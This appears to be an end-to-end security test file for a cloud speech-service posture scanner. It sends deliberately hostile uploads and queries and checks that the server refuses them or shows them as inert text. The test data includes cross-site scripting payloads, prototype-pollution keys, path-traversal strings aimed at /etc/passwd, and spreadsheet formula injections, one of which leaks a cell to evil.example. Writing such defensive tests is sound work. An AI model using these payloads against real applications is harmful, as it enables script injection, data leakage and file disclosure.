/**
 * Hostile input against the running server (the default e2e server, demo mode): snapshot uploads
 * that are oversized, not JSON, deeply nested, full of `__proto__`/`constructor` keys or of
 * 100,000-element arrays each get a clear 4xx and store nothing; malformed query strings and IDs
 * on every API route give 400/404, never 500; a valid snapshot whose names, tags and file name
 * carry HTML, script and spreadsheet formulas renders inert in the pages, the PDF and the CSV.
 * The server keeps serving throughout.
 */
import { request as httpRequest } from "node:http";
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { PdfFile } from "@/lib/report/testing/poppler";
import { parseCsv } from "@/lib/report/testing/csv-reader";
import { discoverRoutes } from "@/lib/security/testing/routes";
import { resourcePath, waitForScan } from "./support";

const SUB = "00000000-0000-4000-8000-0000000bad00";
const LIMIT = 50 * 1024 * 1024; // SPEECH_POSTURE_MAX_UPLOAD_BYTES default

function snapshot(resources: unknown[], extra: Record<string, unknown> = {}) {
  return {
    kind: "speech-posture.snapshot",
    version: 1,
    collectedAt: new Date().toISOString(),
    subscriptions: [{ subscriptionId: SUB, displayName: "hostile", state: "Enabled" }],
    coverage: ["resources", "roleAssignments", "diagnosticSettings", "speechEndpoints"],
    resources,
    diagnosticSettings: {},
    speechEndpoints: {},
    errors: [],
    ...extra,
  };
}

function account(name: string, extra: Record<string, unknown> = {}) {
  return {
    id: `/subscriptions/${SUB}/resourceGroups/rg-hostile/providers/Microsoft.CognitiveServices/accounts/${name}`,
    name,
    type: "Microsoft.CognitiveServices/accounts",
    kind: "SpeechServices",
    location: "westeurope",
    subscriptionId: SUB,
    resourceGroup: "rg-hostile",
    properties: { publicNetworkAccess: "Enabled" },
    ...extra,
  };
}

/** What the store holds, to show a refused upload stored nothing. */
async function storeState(request: APIRequestContext) {
  const scans = ((await (await request.get("/api/scans?limit=500")).json()) as { items: { id: string }[] }).items.map((s) => s.id);
  const imports = ((await (await request.get("/api/audit?action=snapshot.imported&limit=1000")).json()) as { items: unknown[] }).items.length;
  return { scans, imports };
}

async function expectServing(request: APIRequestContext) {
  const r = await request.get("/api/trend?limit=1");
  expect(r.status()).toBe(200);
}

/**
 * POSTs `total` bytes in 1 MiB chunks, declared or chunked, and returns the status and body. The
 * server answers 413 and closes while the body is still being sent; a client still writing can then
 * lose that answer to a reset (EPIPE or ECONNRESET before any response), as any HTTP client can. The
 * upload is then sent once more: the answer must still be the 413.
 */
async function streamUpload(baseURL: string, total: number, declare: boolean): Promise<{ status: number; body: string }> {
  try {
    return await streamUploadOnce(baseURL, total, declare);
  } catch (error) {
    const code = (error as NodeJS.ErrnoException).code;
    if (code !== "EPIPE" && code !== "ECONNRESET") throw error;
    return streamUploadOnce(baseURL, total, declare);
  }
}

function streamUploadOnce(baseURL: string, total: number, declare: boolean): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const url = new URL("/api/snapshots", baseURL);
    const req = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname,
        method: "POST",
        headers: { "content-type": "application/json", ...(declare ? { "content-length": String(total) } : {}) },
      },
      (res) => {
        let body = "";
        res.on("data", (c: Buffer) => (body += c.toString()));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on("error", reject);
    const chunk = Buffer.alloc(1024 * 1024, 0x20);
    let sent = 0;
    const pump = () => {
      while (sent < total) {
        const n = Math.min(chunk.length, total - sent);
        sent += n;
        if (!req.write(n === chunk.length ? chunk : chunk.subarray(0, n))) return void req.once("drain", pump);
      }
      req.end();
    };
    pump();
  });
}

test("invalid snapshot uploads each get a clear 4xx, store nothing, and the server keeps serving", async ({ request, baseURL }) => {
  test.setTimeout(120_000);
  const before = await storeState(request);
  const deep = "[".repeat(100_000) + "]".repeat(100_000);
  const cases: { label: string; body: string; status: number; message: RegExp; path?: string }[] = [
    { label: "not JSON", body: "<html><script>alert(1)</script></html>", status: 400, message: /not valid JSON/ },
    { label: "empty", body: "", status: 400, message: /empty/ },
    { label: "deeply nested", body: deep, status: 400, message: /nested more than 256 levels/ },
    {
      label: "__proto__ at the top",
      body: `{"__proto__":{"polluted":true},${JSON.stringify(snapshot([])).slice(1)}`,
      status: 400,
      message: /"__proto__" is not allowed/,
      path: "__proto__",
    },
    {
      label: "__proto__ and constructor keys in a resource",
      body: JSON.stringify(snapshot([account("spch-proto", { tags: { constructor: "x" } })])).replace(
        '"properties":{',
        '"properties":{"__proto__":{"isAdmin":true},',
      ),
      status: 400,
      message: /is not allowed/,
      path: "resources[0].properties.__proto__",
    },
    {
      label: "prototype key",
      body: JSON.stringify(snapshot([account("spch-prototype", { properties: { prototype: { polluted: 1 } } })])),
      status: 400,
      message: /"prototype" is not allowed/,
    },
    {
      label: "100,000 numbers as resources",
      body: JSON.stringify(snapshot(new Array(100_000).fill(1))),
      status: 400,
      message: /expected a resource document/,
      path: "resources[0]",
    },
    { label: "100,000 empty documents", body: JSON.stringify(new Array(100_000).fill({})), status: 400, message: /missing/, path: "[0].id" },
    { label: "a string", body: '"just a string"', status: 400, message: /expected a JSON object or array/ },
  ];
  for (const c of cases) {
    // A Buffer is sent as is (Playwright would JSON-encode a string that is not JSON).
    const r = await request.post("/api/snapshots", { data: Buffer.from(c.body), headers: { "content-type": "application/json" } });
    expect(r.status(), c.label).toBe(c.status);
    const body = (await r.json()) as { error: { code: string; message: string; path?: string } };
    expect(body.error.code, c.label).toBe("invalid_input");
    expect(body.error.message, c.label).toMatch(c.message);
    if (c.path !== undefined) expect(body.error.path, c.label).toBe(c.path);
  }
  await expectServing(request);

  // Oversized: declared, and streamed without a length; 413 either way.
  for (const declare of [true, false]) {
    const r = await streamUpload(baseURL!, LIMIT + 2 * 1024 * 1024, declare);
    expect(r.status, `declared=${declare}`).toBe(413);
    expect(JSON.parse(r.body)).toEqual({ error: { code: "payload_too_large", message: expect.any(String), limit: LIMIT } });
  }
  await expectServing(request);
  expect(await storeState(request)).toEqual(before);
});

test("malformed query strings and IDs on every API route give 400 or 404, never 500", async ({ request }) => {
  test.setTimeout(120_000);
  const handlers = discoverRoutes().filter((r) => r.kind === "handler" && r.pattern.startsWith("/api/") && r.pattern !== "/api/session");
  expect(handlers.length).toBeGreaterThan(12);
  const queries = [
    "limit=abc",
    "limit=-1",
    "limit=1e309",
    "limit=99999999999999999999",
    "page=0",
    "%zz=1",
    "q=%E0%A4%A",
    "status=%3Cscript%3E",
    "limit=1&limit=2",
    "sort=__proto__",
    "before=not-a-date",
    "scan=..%2F..%2Fetc%2Fpasswd",
    "format=exe",
    "subscriptionId=%00",
    `x=${"A".repeat(8000)}`,
    "constructor=1",
    "against=%00",
  ];
  const seen = new Map<number, number>();
  for (const r of handlers) {
    for (const method of r.methods.filter((m) => m === "GET")) {
      const base = r.path.replace(/sample-[a-z]+/g, "no-such-id-0000");
      for (const q of ["", ...queries]) {
        const res = await request.fetch(`${base}?${q}`, { method });
        const label = `${method} ${r.pattern}?${q.slice(0, 40)} → ${res.status()}`;
        seen.set(res.status(), (seen.get(res.status()) ?? 0) + 1);
        expect(res.status(), label).toBeLessThan(500);
        if (res.status() >= 400) {
          expect(res.status(), label).toBeGreaterThanOrEqual(400);
          const body = (await res.json()) as { error?: { code?: string; message?: string } };
          expect(typeof body.error?.code, label).toBe("string");
          expect(typeof body.error?.message, label).toBe("string");
        } else await res.dispose();
      }
    }
  }
  // Unknown IDs are 404, not 500 or 200.
  for (const path of [
    "/api/scans/no-such-scan",
    "/api/scans/no-such-scan/findings",
    "/api/scans/no-such-scan/events",
    "/api/scans/no-such-scan/export?format=csv",
    "/api/scans/no-such-scan/report.pdf",
    "/api/scans/no-such-scan/diff?against=other",
  ]) {
    expect((await request.get(path)).status(), path).toBe(404);
  }
  for (const path of [
    "/api/resources/subscriptions/00000000-0000-4000-8000-000000000000/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/none",
    "/api/resources/%zz",
    "/api/resources/..%2F..%2F..%2Fetc%2Fpasswd",
    "/api/resources/%00",
    "/api/resources/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    `/api/resources/${"a/".repeat(400)}b`,
  ]) {
    const s = (await request.get(path)).status();
    expect([400, 404], `${path.slice(0, 60)} → ${s}`).toContain(s);
  }
  // Paths that cannot be percent-decoded, on API routes and pages alike.
  for (const path of ["/api/scans/%zz", "/api/scans/%E0%A4%A/findings", "/resources/%zz", "/subscriptions/%C0%AF"]) {
    expect((await request.get(path)).status(), path).toBe(400);
  }
  expect((await request.delete("/api/scans/no-such-scan")).status()).toBe(404);
  expect((await request.delete("/api/exceptions/no-such-exception")).status()).toBe(404);
  // Bad bodies on every write are 400 (none of these changes anything).
  const writes: [string, string, string][] = [
    ["POST", "/api/scans", '{"source":"evil"}'],
    ["POST", "/api/scans", '{"subscriptions":"not-a-list"}'],
    ["POST", "/api/scans", "[]"],
    ["POST", "/api/scans", '{"__proto__":{"source":"live"}}'],
    ["POST", "/api/scans", "{not json"],
    ["POST", "/api/exceptions", "{}"],
    ["POST", "/api/exceptions", '{"controlId":"NET-3","owner":"x","reason":"y","expiresAt":"garbage"}'],
    ["POST", "/api/exceptions", '{"constructor":{"prototype":{"x":1}}}'],
    ["POST", "/api/exceptions", '"a string"'],
    ["PUT", "/api/settings", '{"retentionKeep":-1}'],
    ["PUT", "/api/settings", '{"scheduleCron":"not a cron"}'],
    ["PUT", "/api/settings", '{"__proto__":{"retentionKeep":1}}'],
    ["PUT", "/api/settings", "[1,2,3]"],
  ];
  for (const [method, path, data] of writes) {
    const res = await request.fetch(path, { method, data: Buffer.from(data), headers: { "content-type": "application/json" } });
    expect(`${method} ${path} ${data} → ${res.status()}`).toBe(`${method} ${path} ${data} → 400`);
  }
  expect([...seen.keys()].every((s) => s < 500)).toBe(true);
  await expectServing(request);
});

// ----- A valid snapshot with hostile names: accepted, then inert everywhere it is shown. -----

const XSS_NAME = `<img src=x onerror="window.__pwned='name';alert(1)">`;
const SVG_NAME = `"><svg onload=window.__pwned='svg'>`;
const FORMULA_NAME = `=HYPERLINK("http://evil.example/?"&A1,"open")`;
const PLUS_NAME = `+cmd|' /C calc'!A0`;
const SCRIPT_TAG = `<script>window.__pwned='script'</script>`;
const SUB_NAME = `@SUM(1+1) <iframe src="javascript:window.__pwned='iframe'"></iframe>`;
const FILE_NAME = `<img src=x onerror="window.__pwned='file'">.json`;

function hostileSnapshot() {
  return snapshot(
    [
      account(XSS_NAME, { tags: { [SCRIPT_TAG]: FORMULA_NAME, owner: `javascript:window.__pwned='tag'` } }),
      account(SVG_NAME),
      account(FORMULA_NAME, { tags: { "-2+3": "=1+1" } }),
      account(PLUS_NAME),
    ],
    { subscriptions: [{ subscriptionId: SUB, displayName: SUB_NAME, state: "Enabled" }] },
  );
}

/** Any script that runs sets window.__pwned or opens a dialog; both are recorded. */
async function trap(page: Page): Promise<{ dialogs: string[]; csp: string[] }> {
  const seen = { dialogs: [] as string[], csp: [] as string[] };
  page.on("dialog", async (d) => {
    seen.dialogs.push(d.message());
    await d.dismiss();
  });
  page.on("console", (m) => {
    if (/Content.Security.Policy/i.test(m.text())) seen.csp.push(m.text());
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __pwnedHits: unknown[] };
    w.__pwnedHits = [];
    Object.defineProperty(window, "__pwned", { configurable: false, get: () => undefined, set: (v) => w.__pwnedHits.push(v) });
  });
  return seen;
}

async function pwned(page: Page): Promise<unknown[]> {
  return page.evaluate(() => (window as unknown as { __pwnedHits: unknown[] }).__pwnedHits);
}

test("a snapshot with HTML, script and formulas in names, tags and file name is stored and renders inert in pages, PDF and CSV", async ({ page, request }) => {
  test.setTimeout(120_000);
  const r = await request.post("/api/snapshots", {
    data: JSON.stringify(hostileSnapshot()),
    headers: { "content-type": "application/json", "x-file-name": FILE_NAME },
  });
  expect(r.status(), await r.text()).toBe(202);
  const scan = await waitForScan(request, ((await r.json()) as { id: string }).id);
  expect(scan.status, scan.error ?? "").toBe("succeeded");
  expect(scan.summary?.resources).toBe(4);

  const seen = await trap(page);
  await page.goto(`/findings?scan=${scan.id}&controlId=NET-1`);
  await page.locator('body[data-ready="true"]').waitFor({ state: "attached" });
  // Shown as text, literally.
  for (const name of [XSS_NAME, SVG_NAME, FORMULA_NAME, PLUS_NAME])
    await expect(page.getByTestId("finding-row").filter({ hasText: name }).first()).toBeVisible();
  const inert = async (where: string) => {
    expect(await page.locator("img[src=x], svg[onload], iframe").count(), where).toBe(0);
    expect(await pwned(page), where).toEqual([]);
    expect(seen.dialogs, where).toEqual([]);
  };
  await inert("findings");
  for (const [path, shown] of [
    ["/", null],
    ["/scans", null],
    // An upload is kept apart from the posture (an import is evidence), so its pages are pinned to it.
    [`/subscriptions/${SUB}?scan=${scan.id}`, SUB_NAME],
    [`${resourcePath(account(XSS_NAME).id)}?scan=${scan.id}`, XSS_NAME],
    [`${resourcePath(account(SVG_NAME).id)}?scan=${scan.id}`, SVG_NAME],
  ] as const) {
    await page.goto(path);
    await page.locator('body[data-ready="true"]').waitFor({ state: "attached" });
    if (shown) await expect(page.getByText(shown).first()).toBeVisible();
    await inert(path);
  }

  // If markup ever got into the page, the Content-Security-Policy would still stop it: inline handlers do not run.
  await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="window.__pwned='injected'">`));
  await expect.poll(() => seen.csp.length).toBeGreaterThan(0);
  expect(await pwned(page)).toEqual([]);

  // CSV: every cell that a spreadsheet would read as a formula starts with an apostrophe.
  const csv = await request.get(`/api/scans/${scan.id}/export?format=csv`);
  expect(csv.status()).toBe(200);
  expect(csv.headers()["content-type"]).toMatch(/text\/csv/);
  const cells = parseCsv((await csv.text()).replace(/^\uFEFF/, "")).flat();
  expect(cells.length).toBeGreaterThan(4 * 18);
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  for (const name of [FORMULA_NAME, PLUS_NAME, SUB_NAME]) expect(cells.includes(`'${name}`), name).toBe(true);
  expect(cells.includes(XSS_NAME)).toBe(true);

  // PDF: the names are printed as text; the document carries no script or launch action.
  const pdf = await request.get(`/api/scans/${scan.id}/report.pdf?subscriptionId=${SUB}`);
  expect(pdf.status()).toBe(200);
  const bytes = Buffer.from(await pdf.body());
  expect(bytes.subarray(0, 5).toString()).toBe("%PDF-");
  // Actions are names in the document's dictionaries; the bytes of compressed streams are left out,
  // where any short name can turn up by chance (CI once failed on such a match).
  const raw = bytes.toString("latin1").replace(/\bstream\r?\n[\s\S]*?\bendstream\b/g, "stream endstream");
  expect(raw).toMatch(/\/Type \/Page\b/); // what is left is still the document's structure
  expect(raw).not.toMatch(/\/(JavaScript|JS|Launch|OpenAction|AA|SubmitForm)\b/);
  const file = new PdfFile(bytes);
  try {
    const pdfText = file.text().replace(/\s+/g, " ");
    expect(pdfText).toContain("HYPERLINK");
    expect(pdfText).toContain("onerror");
    expect(pdfText).toContain("@SUM(1+1)");
  } finally {
    file.dispose();
  }
});

test("the demo mode says so on every page", async ({ page }) => {
  await page.goto("/controls");
  await expect(page.getByTestId("demo-banner")).toContainText("Demo mode — no sign-in");
  await expect(page.getByTestId("auth-bar")).toHaveCount(0);
});
